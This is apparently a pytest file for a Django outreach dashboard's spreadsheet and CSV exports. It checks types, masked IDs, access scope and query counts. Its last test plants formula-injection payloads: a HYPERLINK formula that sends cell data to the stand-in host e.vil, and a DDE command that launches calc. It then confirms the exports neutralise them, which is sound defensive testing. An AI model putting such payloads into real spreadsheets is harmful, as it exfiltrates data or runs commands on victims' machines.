"""Exports of the dashboard's and the coverage map's tables, and the monthly coverage
report: they open with openpyxl (Chinese headers, frozen header row, numbers as numbers,
dates as dates, shares as percentages), hold the same figures as the screen, CSV starts
with the UTF-8 BOM, national IDs stay masked, scope is the screen's (404 outside), and the
query counts stay fixed as the data grows."""

import csv
import io
from datetime import date, datetime
from urllib.parse import urlencode

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from grid.models import Area
from outreach.reporting import periods
from outreach.reporting.coverage import selectors as coverage
from tests import factories
from tests.tables import split_rows
from tests.tasks import run_tasks

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("catalogue")]

EXPORT = "dashboard-export"
REPORT = "coverage-report"


def export(client, fmt: str, **query):
    """A table's download. The missed residents are a background job: start it (POST),
    let the worker run it, and download its file from the job's page."""
    url = reverse(EXPORT, args=[fmt])
    if query.get("table") != "missed":
        return client.get(url, query)
    started = client.post(f"{url}?{urlencode(query)}")
    if started.status_code != 302:
        return started
    run_tasks()
    page = client.get(started.url)
    download = reverse("job-download", args=[page.context["job"].pk])
    assert download in page.content.decode()
    return client.get(download)


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def workbook(response):
    assert response.status_code == 200, body(response)[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(body(response)))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbf")  # the UTF-8 BOM: Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def zh(*labels: str) -> list[str]:
    """The headers as the exports write them: Chinese, whatever the page's language."""
    with translation.override("zh-hans"):
        return [translation.gettext(label) for label in labels]


CHILDREN_HEADERS = [
    "Area",
    "Visits",
    "Coverage",
    "Residents overdue",
    "Errands received",
    "Errands completed",
    "Errands overdue",
    "Median turnaround (days)",
    "Trips saved",
    "Satisfaction (1–5)",
    "Complaints",
    "Handled on the spot",
]


def test_children_xlsx_holds_the_screen_figures_with_types(client_for, crafted):
    client = client_for("street")
    screen = client.get(reverse("dashboard"), factories.period_query(area=factories.town().pk)).context["board"]
    sheet = workbook(
        export(client, "xlsx", table="children", **factories.period_query(area=factories.town().pk))
    ).active
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    table = split_rows(rows)
    assert list(rows[0]) == zh(*CHILDREN_HEADERS)
    # one row per community, then the town's own complaints (registered with no community)
    assert [r[0] for r in table.rows] == [row.area.name for row in screen.rows] + ["未注明社区（村）的投诉"]
    assert table.rows[-1][-2] == screen.unplaced.complaints == 2
    xiuhu = next(r for r in rows if r[0] == "绣湖社区")
    assert xiuhu[1:10] == (3, 0.5, 1, 2, 1, 1, 2.0, 1, 5.0)
    assert isinstance(xiuhu[1], int) and isinstance(xiuhu[2], float)
    total = tuple(table.total)
    t = screen.total
    assert total[1:] == (
        t.visits,
        t.coverage_share,
        t.missed,
        t.errands_received,
        t.errands_completed,
        t.errands_overdue,
        pytest.approx(t.turnaround_days),
        t.trips_saved,
        t.satisfaction,
        t.complaints,
        t.on_spot_share,
    )
    xiuhu_row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "绣湖社区")
    assert xiuhu_row[2].number_format == "0.0%" and xiuhu_row[1].number_format == "0"
    # No figure is an empty cell, not a zero: a community with nothing completed has no turnaround.
    quiet = next(r for r in table.rows if r[5] == 0)
    assert quiet[7] is None
    note = "注：合计行为各行之和，但走访覆盖率、办理用时中位数（天）、满意度（1–5）、当场解决除外：这些是比例、平均数或中位数，按全部行合起来计算。"
    assert table.notes == [note]


def test_children_csv_starts_with_the_bom_and_matches(client_for, crafted):
    rows = csv_rows(
        export(client_for("street"), "csv", table="children", **factories.period_query(area=factories.town().pk))
    )
    assert rows[0] == zh(*CHILDREN_HEADERS)
    xiuhu = next(r for r in rows if r[0] == "绣湖社区")
    assert xiuhu[1:10] == ["3", "50.0%", "1", "2", "1", "1", "2.0", "1", "5.0"]
    total = split_rows(rows).total
    assert total[0] == zh("Total")[0] and total[1:4] == ["4", "66.7%", "1"]


def test_trend_has_dates_and_the_screen_counts(client_for, crafted):
    client = client_for("street")
    weeks = (
        client.get(reverse("dashboard"), factories.period_query(area=factories.town().pk)).context["board"].trend.weeks
    )
    sheet = workbook(export(client, "xlsx", table="trend", area=factories.town().pk)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == zh("Week from", "Week to", "Visits", "Errands received", "Errands completed")
    assert [r[0].date() if isinstance(r[0], datetime) else r[0] for r in rows[1:]] == [w.start for w in weeks]
    assert [r[2:] for r in rows[1:]] == [(w.visits, w.received, w.completed) for w in weeks]
    assert sheet["A2"].number_format == "yyyy-mm-dd"
    assert (
        csv_rows(export(client, "csv", table="trend", area=factories.town().pk))[-1][0] == weeks[-1].start.isoformat()
    )


def test_coverage_table_of_the_map(client_for, crafted):
    client = client_for("street")
    sheet = workbook(
        export(client, "xlsx", table="coverage", **factories.period_query(area=factories.town().pk))
    ).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == zh(
        "Area",
        "Residents",
        "Visited on time",
        "Coverage",
        "Missed",
        "Visits",
        "Visits away from the home",
        "Visits without location",
    )
    assert next(r for r in rows if r[0] == "绣湖社区")[1:6] == (2, 1, 0.5, 1, 3)
    assert tuple(split_rows(rows).total[1:6]) == (3, 2, pytest.approx(2 / 3), 1, 4)


def test_missed_residents_show_masked_ids_only(client_for, crafted, demo_users):
    national_id = factories.national_id()
    masked = factories.resident(
        actor=demo_users["admin"],
        grid_name="绣湖社区第2网格",
        name="丁",
        registered_days_ago=40,
        national_id=national_id,
    )
    client = client_for("street")
    response = export(client, "xlsx", table="missed", **factories.period_query(area=factories.town().pk))
    rows = list(workbook(response).active.iter_rows(values_only=True))
    assert list(rows[0]) == zh(
        "Name", "National ID", "Grid", "Address", "Care level", "Last met in person", "Due on", "Days overdue"
    )
    assert [r[0] for r in rows[1:]] == ["乙", "丁"]  # most overdue first, as on the map
    row = rows[2]
    assert row[1] == masked.national_id_masked and "*" in row[1]
    assert isinstance(row[6], datetime) and row[7] == 40
    assert national_id.encode() not in body(response)
    text = body(export(client, "csv", table="missed", **factories.period_query(area=factories.town().pk))).decode(
        "utf-8-sig"
    )
    assert masked.national_id_masked in text and national_id not in text


def test_monthly_report_has_a_sheet_per_community(client_for, crafted):
    today = timezone.localdate()
    response = client_for("street").get(reverse(REPORT), {"area": factories.town().pk, "month": f"{today:%Y-%m}"})
    book = workbook(response)
    communities = list(factories.town().children.order_by("code").values_list("name", flat=True))
    assert book.sheetnames[1:] == communities
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
    summary = list(book.worksheets[0].iter_rows(values_only=True))
    assert summary[0][0] == zh("Community")[0]
    period = periods.period_for("custom", today=today, start=today.replace(day=1), end=today)
    expected = coverage.coverage_of(area=factories.town(), period=period)
    assert tuple(split_rows(summary).total[1:3]) == (expected.active, expected.on_time)
    xiuhu = list(book["绣湖社区"].iter_rows(values_only=True))
    assert xiuhu[0][0] == zh("Grid")[0]
    grids = split_rows(xiuhu).rows
    assert [r[0] for r in grids] == ["绣湖社区第1网格", "绣湖社区第2网格"]
    assert [r[1] for r in grids] == [1, 1]


def test_monthly_report_checks_its_query(client_for, crafted):
    client = client_for("street")
    community = Area.objects.get(name="绣湖社区")
    response = client.get(reverse(REPORT), {"area": community.pk})
    assert response.status_code == 400 and response["Content-Type"].startswith("text/plain")
    next_year = date.today().year + 1
    response = client.get(reverse(REPORT), {"area": factories.town().pk, "month": f"{next_year}-01"})
    assert response.status_code == 400 and b"month" in response.content
    assert client.get(reverse(REPORT), {"area": factories.town().pk, "month": "2026-13"}).status_code == 400
    assert client.get(reverse(REPORT)).status_code == 400
    other_town = Area.objects.get(name="北苑街道")
    assert client.get(reverse(REPORT), {"area": other_town.pk}).status_code == 404
    assert client_for("station").get(reverse(REPORT), {"area": factories.town().pk}).status_code == 404


def test_bad_table_or_period_is_a_clear_400(client_for, crafted):
    client = client_for("street")
    response = export(client, "xlsx", table="everything")
    assert response.status_code == 400 and b"table" in response.content
    assert export(client, "csv").status_code == 400
    today = timezone.localdate()
    response = export(client, "csv", table="children", period="custom", start=today.isoformat(), end="2001-01-01")
    assert response.status_code == 400 and b"end" in response.content
    assert client.get(f"{reverse('dashboard')}export.pdf").status_code == 404


@pytest.mark.parametrize(
    "username, table, area",
    [
        ("worker", "children", "绣湖社区第2网格"),
        ("worker", "missed", "绣湖社区"),
        ("station", "trend", "稠城街道"),
        ("street", "coverage", "北苑街道"),
        ("street", "missed", "北苑街道"),
        ("secretary", "children", "绣湖社区"),
    ],
)
def test_exports_outside_the_scope_are_404(client_for, username, table, area):
    pk = Area.objects.get(name=area).pk
    for fmt in ("xlsx", "csv"):
        assert export(client_for(username), fmt, table=table, area=pk).status_code == 404


def test_branches_get_no_resident_list(client_for, crafted):
    client = client_for("secretary")
    assert export(client, "xlsx", table="missed").status_code == 404
    rows = csv_rows(export(client, "csv", table="children", **factories.period_query()))
    assert rows[0] == zh(
        "Area",
        "Errands received",
        "Errands completed",
        "Errands overdue",
        "Median turnaround (days)",
        "Trips saved",
        "Satisfaction (1–5)",
        "Complaints",
        "Handled on the spot",
    )
    table = split_rows(rows)
    assert table.total is None and [r[0] for r in table.rows] == ["我的联合支部"]  # its own row, not a total of none
    assert table.rows[0][1] == "1" and table.rows[0][7] == "1"


def test_worker_exports_their_own_figures(client_for, crafted):
    rows = csv_rows(export(client_for("worker"), "csv", table="children", **factories.period_query()))
    table = split_rows(rows)  # their one grid: its own row, no total of one
    assert table.total is None and len(table.rows) == 1
    assert table.rows[0][:2] == ["绣湖社区第1网格", "1"]  # one visit of their own


# session, user, scopes + the door (2: the area and its ancestors, its children) + the
# figures (children: coverage 2, the day tallies, errands overdue,
# completions, complaints; trend: the day tallies). The missed list: below.
@pytest.mark.parametrize("table, queries", [("children", 11), ("trend", 6), ("coverage", 7)])
def test_export_query_counts_do_not_grow(client_for, crafted, grow, table, queries, django_assert_num_queries):
    client, query = client_for("street"), factories.period_query(area=factories.town().pk)
    client.get(reverse("dashboard"))
    for fmt in ("xlsx", "csv"):
        with django_assert_num_queries(queries):
            export(client, fmt, table=table, **query)
    grow(10)
    for fmt in ("xlsx", "csv"):
        with django_assert_num_queries(queries):
            assert export(client, fmt, table=table, **query).status_code == 200


def test_missed_export_query_counts_do_not_grow(client_for, crafted, grow, django_assert_num_queries):
    """The missed list as a job: starting it (session, user, scopes, the door's 2, the job
    and its task row and the task's id), the worker's run (excluding the bar's updates,
    written once a second), the job's page and its download (the door again: scopes, the
    area with its ancestors, its parts; audited: the area, the row) cost the same with
    ten times the residents."""
    client, query = client_for("street"), factories.period_query(area=factories.town().pk, table="missed")
    client.get(reverse("dashboard"))
    url = f"{reverse(EXPORT, args=['xlsx'])}?{urlencode(query)}"

    def counts() -> list[int]:
        found = []
        with CaptureQueriesContext(connection) as context:
            started = client.post(url)
        found.append(len(context.captured_queries))
        with CaptureQueriesContext(connection) as context:
            assert run_tasks() == 1
        updates = 'UPDATE "outreach_job" SET "done"'
        found.append(sum(1 for q in context.captured_queries if not q["sql"].startswith(updates)))
        with CaptureQueriesContext(connection) as context:
            page = client.get(started.url)
        found.append(len(context.captured_queries))
        with CaptureQueriesContext(connection) as context:
            assert client.get(reverse("job-download", args=[page.context["job"].pk])).status_code == 200
        found.append(len(context.captured_queries))
        return found

    before = counts()
    assert before == [8, before[1], 4, 8]
    grow(10)
    assert counts() == before


def test_report_query_count_does_not_grow(client_for, crafted, grow, django_assert_num_queries):
    client, query = client_for("street"), {"area": factories.town().pk}
    client.get(reverse("dashboard"))
    # session, user, scopes, the town with its ancestors, its communities, its grids, coverage 2
    with django_assert_num_queries(8):
        client.get(reverse(REPORT), query)
    grow(10)
    with django_assert_num_queries(8):
        assert client.get(reverse(REPORT), query).status_code == 200


# Text from people that a spreadsheet would run (issue 13 §1): a resident's name and
# address, an area's name. Every table comes back with them as text and nothing as a formula.
EVIL_NAME = '=HYPERLINK("http://e.vil/?"&B2,"点击")'
EVIL_ADDRESS = "=cmd|' /C calc'!A0"
EVIL_AREA = "＋绣湖社区"


def no_formulas(book) -> list[str]:
    """Every text cell of ``book``, after checking that none of its cells is a formula."""
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells if cell.data_type == "s"]


def test_every_export_writes_peoples_formulas_as_text(client_for, crafted, demo_users):
    factories.resident(
        actor=demo_users["admin"],
        grid_name="绣湖社区第2网格",
        name=EVIL_NAME,
        address=EVIL_ADDRESS,
        registered_days_ago=40,
    )
    Area.objects.filter(name="绣湖社区").update(name=EVIL_AREA)
    client, query = client_for("street"), factories.period_query(area=factories.town().pk)
    expected = {"children": [EVIL_AREA], "coverage": [EVIL_AREA], "missed": [EVIL_NAME, EVIL_ADDRESS], "trend": []}
    for table, texts in expected.items():
        cells = no_formulas(workbook(export(client, "xlsx", table=table, **query)))
        assert set(texts) <= set(cells), table
        fields = [field for row in csv_rows(export(client, "csv", table=table, **query)) for field in row]
        assert {"'" + text for text in texts} <= set(fields), table
        assert not set(texts) & set(fields), table  # never bare
    today = timezone.localdate()
    report = workbook(client.get(reverse(REPORT), {"area": factories.town().pk, "month": f"{today:%Y-%m}"}))
    assert EVIL_AREA in no_formulas(report) and EVIL_AREA in report.sheetnames
